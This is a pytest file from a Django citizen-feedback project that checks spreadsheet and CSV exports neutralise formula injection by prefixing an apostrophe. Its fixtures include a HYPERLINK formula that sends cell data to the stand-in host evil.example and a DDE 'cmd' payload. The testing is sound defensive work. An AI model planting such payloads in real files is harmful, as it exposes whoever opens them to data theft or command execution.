"""Formula injection (issue 14, item 4): text a citizen wrote that starts like a formula is written as text in every
file export, the report's xlsx here; ``tests/analysis/test_predict_csv_never_writes_a_live_formula.py`` for CSV, and
the last test keeps any new export from forgetting it."""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from django.utils import timezone

from fankui.analysis.models import CaseAnalysis
from fankui.cases.models import Case
from fankui.insights import builders, periods, queries
from fankui.nlp.cells import neutralise
from fankui.topics.models import Topic

pytestmark = pytest.mark.django_db

PLANTED = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
OTHERS = ["+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def test_the_hot_topics_sheet_writes_a_planted_formula_as_text(walk: Callable[..., Case]) -> None:
    from openpyxl import load_workbook

    now = timezone.now()
    topic = Topic.objects.create(
        label=PLANTED, keywords=["=cmd|' /C calc'!A0"], heat=1, size=2, first_seen_at=now, last_seen_at=now
    )
    for text in [PLANTED, *OTHERS]:
        case = walk("2026-11-02 09:00", body="路灯坏了")
        CaseAnalysis.objects.filter(case=case).update(
            topic=topic, status=CaseAnalysis.Status.DONE, masked_title="路灯", masked_body=text
        )
    report = queries.build(queries.whole_organisation(), periods.parse("2026-11"))
    book = load_workbook(io.BytesIO(builders.xlsx(report)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'" + PLANTED in texts
    assert not [t for t in texts if t[:1] in "=+-@\t\r"]


@pytest.mark.parametrize("value", [PLANTED, *OTHERS])
def test_text_that_starts_like_a_formula_gets_an_apostrophe(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["路灯坏了", "2026-000123", "a=b", -3, 4.5, None, "", "'=1"])
def test_other_values_are_left_as_they_are(value: object) -> None:
    assert neutralise(value) == value


def test_every_file_writer_in_the_code_goes_through_the_one_helper() -> None:
    source = Path(__file__).resolve().parents[2] / "src" / "fankui"
    writers = re.compile(r"openpyxl|xlsxwriter|csv\.writer|csv\.DictWriter|\.to_csv\(|\.to_excel\(")
    found = {
        str(path.relative_to(source))
        for path in source.rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    }
    # Files that only read spreadsheets (an import's xlsx, read-only) write no cell.
    found -= {"imports/reading.py"}
    # Each of these writes its cells through fankui.nlp.cells.neutralise; a new one must too, and be added here.
    assert found == {
        "insights/builders.py",
        "nlp/csvio.py",
        "bench/imports.py",
        "questionnaires/services/exports.py",
    }
    for name in found:
        assert "neutralise" in (source / name).read_text(encoding="utf-8"), name
